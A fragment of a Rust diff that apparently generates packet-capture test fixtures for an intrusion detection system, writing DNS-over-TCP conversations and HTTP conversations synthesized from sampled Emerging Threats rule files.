+    p.write(&out.join("tls_sni.pcap"))?;
+    let mut p = Pcap::new();
+    for (i, name) in qnames.iter().enumerate() {
+        let mut c = p.conv(&mut ports, 53);
+        let q = dns_query(name, 0x1000 + i as u16);
+        c.send(true, &q, WHOLE);
+        c.send(false, &dns_response(&q), WHOLE);
+        c.close();
+    }
+    p.write(&out.join("dns_tcp.pcap"))?;
+
+    // One conversation per sampled ET HTTP rule, from the rule's own contents.
+    if let Some(et) = &et {
+        for (file, name, step) in [
+            ("emerging-web_server.rules", "et_web_server.pcap", 4),
+            (
+                "emerging-web_specific_apps.rules",
+                "et_web_specific_apps.pcap",
+                40,
+            ),
+            ("emerging-web_client.rules", "et_web_client.pcap", 8),
+            ("emerging-user_agents.rules", "et_user_agents.pcap", 2),
+            ("emerging-exploit.rules", "et_exploit.pcap", 8),
+        ] {
+            let mut p = Pcap::new();
+            let mut n = 0;
+            for r in et_rules(et, file)
+                .iter()
+                .filter(|r| r.protocol == eastwall_ids::rule::Protocol::Http)
+                .step_by(step)
+            {
+                let Some((req, resp)) = synthesize(r) else {
+                    continue;
+                };
+                let mut c = p.conv(&mut ports, 80);
+                c.send(true, &req, WHOLE);
+                c.send(false, &resp, WHOLE);
+                c.close();
+                n += 1;
+                if n >= 150 {
+                    break;
+                }
+            }
+            p.write(&out.join(name))?;
+        }
+    }
+    Ok(())
+}
